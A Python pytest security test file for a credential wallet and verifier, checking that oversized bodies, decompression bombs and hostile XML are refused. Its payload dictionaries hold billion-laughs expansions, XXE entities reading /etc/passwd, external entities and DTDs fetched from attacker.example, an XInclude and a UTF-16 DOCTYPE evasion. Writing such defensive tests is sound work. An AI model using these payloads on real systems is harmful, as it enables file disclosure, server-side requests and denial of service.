"""Hostile input: bodies over the cap on every POST route, image and zlib bombs, and XML with
entity expansion or external entities, through every entry point that reads XML."""

from __future__ import annotations

import io
import time
from collections.abc import Iterator

import pytest
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from tests.conftest import NOW
from tests.ob2_factory import itxt, tiny_png
from tests.security.conftest import ROUTES, VICTIM_EMAIL, World, body_of, build_world
from tests.security.samples import trusted_list_xml, xml_edc
from tests.wallet import factories as f
from verifier import MalformedDocument, Status, verify
from verifier.baking import unbake
from verifier.errors import TrustListError
from verifier.trustlists import TrustedListStore
from verifier.xades import parse_xml
from wallet.db import db

MB = 1024 * 1024
POSTS = [(e, r) for e, m, r in ROUTES if m == "POST"]


@pytest.fixture(scope="module")
def capped(tmp_path_factory) -> Iterator[World]:
    """The filled wallet with a 1 MB request cap and a 256 kB form-field cap."""
    built = build_world(
        tmp_path_factory.mktemp("capped") / "instance",
        MAX_CONTENT_LENGTH=MB,
        MAX_FORM_MEMORY_SIZE=256 * 1024,
    )
    yield built
    with built.app.app_context():
        db.session.remove()
        db.engine.dispose()


def multipart(*files: tuple[str, bytes], field: str = "files") -> dict:
    values = MultiDict([(field, FileStorage(io.BytesIO(c), filename=n)) for n, c in files])
    boundary, body = encode_multipart(values)
    return {"data": body, "content_type": f"multipart/form-data; boundary={boundary}"}


@pytest.mark.parametrize(("endpoint", "rule"), POSTS, ids=[r.rule for _, r in POSTS])
def test_every_post_route_refuses_a_body_over_the_cap(capped, endpoint, rule):
    before = capped.snapshot()
    client = capped.client(VICTIM_EMAIL)
    for url in capped.urls(rule)[:2]:
        response = client.post(url, **multipart(("big.json", b"{" + b" " * (2 * MB))))
        assert response.status_code == 413, (url, response.status_code)
        assert "Too large" in body_of(response)
    assert capped.snapshot() == before


def test_a_form_field_over_the_field_cap_is_refused(capped):
    """A multipart text field over MAX_FORM_MEMORY_SIZE; a url-encoded form is bounded by
    MAX_CONTENT_LENGTH as a whole (werkzeug applies the field cap to multipart only)."""
    client = capped.client(VICTIM_EMAIL)
    boundary, body = encode_multipart(MultiDict([("text", "x" * (300 * 1024))]))
    response = client.post(
        "/import/paste", data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert response.status_code == 413


# -- bombs through the import forms -------------------------------------------------------------
BOMBS = {
    "png_400_megapixels": lambda: f.decompression_bomb_png(20_000),
    "baked_itxt_zlib_64mb": lambda: tiny_png(
        itxt("openbadgecredential", b"{" + b" " * (64 * MB) + b"}", compressed=True)
    ),
    "vp1_zlib_bomb": lambda: f.compressed("{" + " " * (64 * MB) + "}").encode(),
    "svg_billion_laughs": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(8)
        )
        + b']><svg xmlns="http://www.w3.org/2000/svg">&i;</svg>'
    ),
}


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_are_refused_quickly_and_nothing_is_kept(world, name):
    bomb = BOMBS[name]()
    assert len(bomb) < MB
    client = world.client(VICTIM_EMAIL)
    before = world.snapshot()
    started = time.monotonic()
    response = client.post("/import/files", **multipart((f"{name}.bin", bomb)))
    assert response.status_code in (200, 400)
    assert time.monotonic() - started < 10
    assert world.snapshot() == before


# -- XML: entity expansion and external entities, wherever XML is read ---------------------------
SECRET_FILE_LINE = "root:"
HOSTILE_XML = {
    "billion_laughs": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(8)
    )
    + b"]><r>&i;</r>",
    "external_file": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<r>&x;</r>",
    "external_url": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
    b'"https://attacker.example/x">]><r>&x;</r>',
    "parameter_entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM '
    b'"https://attacker.example/p.dtd"> %p;]><r/>',
    "external_dtd": b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "https://attacker.example/r.dtd">'
    b"<r/>",
    # The byte scan for <!DOCTYPE misses UTF-16; the parsed tree is checked as well.
    "utf16_doctype": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM '
    '"file:///etc/passwd">]><r>&x;</r>'.encode("utf-16"),
    "xinclude": b'<r xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></r>',
}


def with_payload(sample: bytes, hostile: bytes) -> bytes:
    """A genuine signed document with the hostile prolog in front of its root."""
    if hostile.startswith(b"\xff\xfe") or hostile.startswith(b"\xfe\xff"):
        return hostile
    prolog = hostile.split(b"<r", 1)[0]
    return prolog + sample.split(b"?>", 1)[-1] if b"<!DOCTYPE" in prolog else hostile


@pytest.mark.parametrize("name", HOSTILE_XML)
def test_hostile_xml_is_refused_by_every_reader(no_network, name):
    hostile = HOSTILE_XML[name]
    for data in (hostile, with_payload(xml_edc(), hostile)):
        started = time.monotonic()
        if name != "xinclude":  # a plain element: well-formed, no DTD, nothing expanded
            with pytest.raises(MalformedDocument):
                parse_xml(data)
        report = verify(data, now=NOW)
        assert report.check("format").status is Status.FAILED or not report.verified
        assert SECRET_FILE_LINE not in str(report.to_json())
        with pytest.raises(TrustListError):
            TrustedListStore.empty().import_list(with_payload(trusted_list_xml(), hostile), now=NOW)
        assert time.monotonic() - started < 5


@pytest.mark.parametrize("name", [n for n in HOSTILE_XML if n != "xinclude"])
def test_hostile_svg_badges_are_refused(no_network, name):
    svg = HOSTILE_XML[name].replace(b"<r>", b'<svg xmlns="http://www.w3.org/2000/svg">')
    svg = svg.replace(b"</r>", b"</svg>").replace(b"<r/>", b'<svg xmlns="x"/>')
    svg = svg.replace(b"DOCTYPE r", b"DOCTYPE svg")
    if name == "utf16_doctype":
        svg = HOSTILE_XML[name].decode("utf-16").replace("<r>", '<svg xmlns="x">')
        svg = svg.replace("</r>", "</svg>").replace("DOCTYPE r", "DOCTYPE svg").encode("utf-16")
    with pytest.raises(MalformedDocument):
        unbake(svg)


@pytest.mark.parametrize("name", HOSTILE_XML)
def test_hostile_xml_uploaded_to_the_wallet_is_refused(world, no_network, name):
    client = world.client(VICTIM_EMAIL)
    before = world.snapshot()
    response = client.post(
        "/import/files",
        **multipart((f"{name}.xml", HOSTILE_XML[name]), (f"{name}.svg", HOSTILE_XML[name])),
    )
    assert response.status_code in (200, 400)
    assert SECRET_FILE_LINE not in body_of(response)
    assert world.snapshot() == before


def test_a_gzip_bomb_inside_a_backup_is_refused_quickly():
    """A backup's payload is gunzipped with a cap: 64 MB of zeros in 64 kB stops at the cap."""
    import gzip

    from wallet.backup.archive import TOO_LARGE, BackupError, gunzip_capped

    bomb = gzip.compress(b"\0" * (64 * MB), 9)
    assert len(bomb) < MB
    started = time.monotonic()
    with pytest.raises(BackupError) as refused:
        gunzip_capped(bomb, MB)
    assert refused.value.reason == TOO_LARGE
    assert time.monotonic() - started < 2
